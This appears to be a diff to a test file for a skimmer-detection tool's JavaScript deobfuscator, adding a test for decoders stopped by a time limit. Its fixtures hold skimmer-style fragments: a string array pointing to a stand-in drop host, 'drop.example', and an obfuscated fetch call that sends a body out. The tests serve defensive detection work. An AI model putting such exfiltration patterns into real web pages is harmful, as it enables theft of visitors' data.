@@ -2,7 +2,7 @@
 the isolate — string arrays with rotation, custom ciphers, self-keyed decoders."""
 
 from skimscan.analyze.deobfuscate import decoders, proxy_functions
-from tests.deobfuscate.helpers import clean, flat
+from tests.deobfuscate.helpers import clean, flat, rewrite
 
 STRING_ARRAY = """
 function _arr() { const a = ['send', 'https://drop.example/g', 'ajax', 'open'];
@@ -52,3 +52,11 @@ def test_decoders_depending_on_run_time_state_are_left_alone() -> None:
 def test_a_decoder_that_never_returns_costs_only_its_timeout() -> None:
     code = "function spin(s) { while (true) {} } var a = spin('x'); var b = spin('y');"
     assert "spin(\"x\")" in flat(clean(code, decoders))
+
+
+def test_a_decoder_that_runs_out_of_time_is_left_and_said() -> None:
+    """A decoder call stopped by its time limit stays encoded, and the result says so (the
+    analysis then reports `deobfuscation-incomplete`: never a quiet clean)."""
+    result = rewrite("function dec(i) { while (true) {} } fetch(dec(1), {body: d});")
+    assert "fetch(dec(1)" in flat(result.code)
+    assert any("ran out of time" in n for n in result.notes)
